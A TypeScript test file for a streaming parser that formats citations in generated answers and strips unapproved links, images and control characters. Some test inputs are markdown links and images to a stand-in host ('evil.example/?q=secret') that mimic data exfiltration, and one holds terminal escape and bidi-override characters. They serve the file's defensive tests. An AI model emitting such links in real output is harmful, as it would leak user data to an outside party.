import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type Marked, markedText } from '../../src/search/answer/marked-text.ts'

const known = 'https://example.org/known'

/** Cited numbers in place, as `{1}`; the words come in pieces of this length. */
function read(words: string, pieces = words.length): string {
  const marked = markedText((url) => url === known)
  const shown = (found: readonly Marked[]): string =>
    found
      .map((one) => (one.type === 'text' ? one.text : `${one.spaceBefore}{${one.numbers.join()}}`))
      .join('')
  let out = ''
  for (let at = 0; at < words.length; at += pieces) out += shown(marked.push(words.slice(at, at + pieces)))
  return out + shown(marked.end())
}

describe('citations in words that come piece by piece', () => {
  it.each([
    ['It closes [1].', 'It closes {1}.'],
    ['It closes[1][2].', 'It closes{1}{2}.'],
    ['It [1, 3] closes [2-4].', 'It {1,3} closes {2,3,4}.'],
    ['[[2]] and [passage 3] and 【4†source】', '{2} and {3} and {4}'],
    ['A list [x] and [sic] stay, and [', 'A list [x] and [sic] stay, and ['],
    [
      'In code `a[1]` and\n```\nb[2] = [3]\n```\nit is a bracket [4]',
      'In code `a[1]` and\n```\nb[2] = [3]\n```\nit is a bracket {4}',
    ],
    ['A lonely ` tick\nends with its line [1]', 'A lonely ` tick\nends with its line {1}'],
    ['[1] (see below)', '{1} (see below)'],
    ['[1](see below)', '{1} (see below)'],
    ['[1234] is a year', '[1234] is a year'],
  ])('%s', (words, expected) => {
    for (const pieces of [1, 2, 3, 7, 1_000]) expect(read(words, pieces)).toBe(expected)
  })

  it.each([
    ['a link', 'See [here](https://evil.example/?q=secret) now', 'See [here] now'],
    ['a picture', 'See ![x](https://evil.example/?q=secret) now', 'See ![x] now'],
    ['a picture of a known address', `See ![x](${known}) now`, 'See ![x] now'],
    ['a known link', `See [here](${known}) now`, `See [here](${known}) now`],
    ['a citation that is a link', 'See [1](https://evil.example/?q=secret) now', 'See {1} now'],
    ['a definition', 'See ![x][y]\n\n[y]: https://evil.example/a.png\nend', 'See ![x][y]\n\n[y]\nend'],
    ['a link that never ends', `See [here](https://evil.example/${'a'.repeat(50)}`, 'See [here]'],
    ['brackets in an address', 'See [here](https://evil.example/(a)b) now', 'See [here] now'],
    ['controls', 'a\u001b[31mred\u0007\u202e b', 'a[31mred b'],
  ])('lets through no address that was not given: %s', (_, words, expected) => {
    for (const pieces of [1, 2, 5, 1_000]) expect(read(words, pieces)).toBe(expected)
  })

  it('says the same however the words are cut', () => {
    const alphabet = fc.constantFrom(
      '[',
      ']',
      '(',
      ')',
      '1',
      '2',
      ',',
      '-',
      ' ',
      '`',
      '!',
      'a',
      '\n',
      ':',
      'https://x',
      '【',
      '†',
      '】',
    )
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 40 }), fc.integer({ min: 1, max: 6 }), (parts, pieces) => {
        const words = parts.join('')
        expect(read(words, pieces)).toBe(read(words))
      }),
      { numRuns: 2_000 },
    )
  })
})
